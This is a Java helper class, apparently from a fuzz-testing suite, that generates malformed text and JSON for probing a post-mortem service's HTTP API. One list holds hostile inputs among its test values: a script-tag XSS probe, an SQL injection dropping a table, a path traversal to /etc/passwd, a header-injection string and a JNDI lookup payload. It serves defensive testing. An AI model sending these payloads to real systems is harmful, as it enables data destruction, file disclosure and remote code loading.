package dev.postmortem.testing.http.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.List;
import java.util.Random;
import java.util.UUID;

/** Values a hostile or careless client sends, as text and as JSON, drawn from one seeded {@link Random}. */
final class NastyValues {

    private static final List<String> TEXTS = List.of(
            "", " ", "x", "Ünïcödé ☃ 漢字 😀", "\u0000", "a\u0000b", "ring\u0007", "\u001b[31mred", "x\u0085y",
            "x\ud800y", "\udc00", "😀".substring(0, 1), "\u202Eevil", "\uFEFFbom", "<script>alert(1)</script>",
            "'; DROP TABLE pm_post_mortem; --", "%00", "../../etc/passwd", "line\r\nInjected: header",
            "${jndi:ldap://example.invalid/x}", "{max}", "{{API}}", "\\", "\"", "#", "- [x] done", "`code`",
            "14:35", "14:35:20", "25:61", "2024-01-15T14:35:00Z", "2024-01-15T14:35:00.123456789+01:00:00",
            "+100000-01-15T14:35:00.123456789+01:00:00", "1899-12-31T23:59:59Z", "2024-02-30", "2024-02-01",
            "-4713-11-24", "+5874898-01-01", "9999-12-31", "1900-01-01", "HIGH", "high", "DONE", "TODO", "DRAFT",
            "IN_REVIEW", "PUBLISHED", "ARCHIVED", "database-outage", "carol@example.com", "bob@example.com",
            "not an email", "１０", "-1", "0", "101", "9999999999", "null", "true", "v1:0:0:x");

    private final Random random;
    private final JsonNodeFactory json = JsonNodeFactory.instance;

    NastyValues(Random random) {
        this.random = random;
    }

    Random random() {
        return random;
    }

    <T> T oneOf(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    boolean chance(int percent) {
        return random.nextInt(100) < percent;
    }

    String text() {
        return switch (random.nextInt(10)) {
            case 0 -> "a".repeat(1 + random.nextInt(3000));
            case 1 -> "w".repeat(20_000 + random.nextInt(3));
            case 2 -> uuid().toString();
            case 3 -> oneOf(TEXTS) + oneOf(TEXTS);
            case 4 -> randomChars(1 + random.nextInt(40));
            default -> oneOf(TEXTS);
        };
    }

    /** A version-4 shaped UUID from the seeded random, so that a run can be replayed. */
    UUID uuid() {
        return new UUID(random.nextLong() & ~0xF000L | 0x4000L, random.nextLong() & 0x3FFF_FFFF_FFFF_FFFFL
                | 0x8000_0000_0000_0000L);
    }

    /** Any UTF-16 units, lone surrogates and controls included. */
    private String randomChars(int length) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            text.append((char) (random.nextBoolean() ? random.nextInt(0x80) : random.nextInt(0x10000)));
        }
        return text.toString();
    }

    JsonNode value(int depth) {
        return switch (random.nextInt(depth > 3 ? 7 : 10)) {
            case 0 -> json.numberNode(random.nextInt());
            case 1 -> json.numberNode(new BigInteger(80, random));
            case 2 -> json.numberNode(new BigDecimal("1e" + random.nextInt(400)));
            case 3 -> json.booleanNode(random.nextBoolean());
            case 4 -> json.nullNode();
            case 5, 6 -> json.textNode(text());
            case 7 -> array(depth + 1);
            case 8 -> object(depth + 1);
            default -> deep(1 + random.nextInt(45));
        };
    }

    private ArrayNode array(int depth) {
        ArrayNode array = json.arrayNode();
        for (int i = random.nextInt(4); i > 0; i--) {
            array.add(value(depth));
        }
        return array;
    }

    private ObjectNode object(int depth) {
        ObjectNode object = json.objectNode();
        for (int i = random.nextInt(4); i > 0; i--) {
            object.set(fieldName(), value(depth));
        }
        return object;
    }

    private JsonNode deep(int levels) {
        JsonNode node = json.textNode("bottom");
        for (int i = 0; i < levels; i++) {
            node = random.nextBoolean() ? json.arrayNode().add(node) : json.objectNode().set("n", node);
        }
        return node;
    }

    String fieldName() {
        return chance(70) ? oneOf(FIELD_NAMES) : text();
    }

    /** The contract's own names, server-owned ones included, so that mutations hit real fields. */
    static final List<String> FIELD_NAMES = List.of("incidentId", "title", "summary", "impact", "rootCause",
            "timeline", "actionItems", "contributors", "status", "templateId", "id", "version", "createdAt",
            "createdBy", "updatedAt", "publishedAt", "statusHistory", "time", "description", "owner", "priority",
            "dueDate", "allowedTransitions");
}
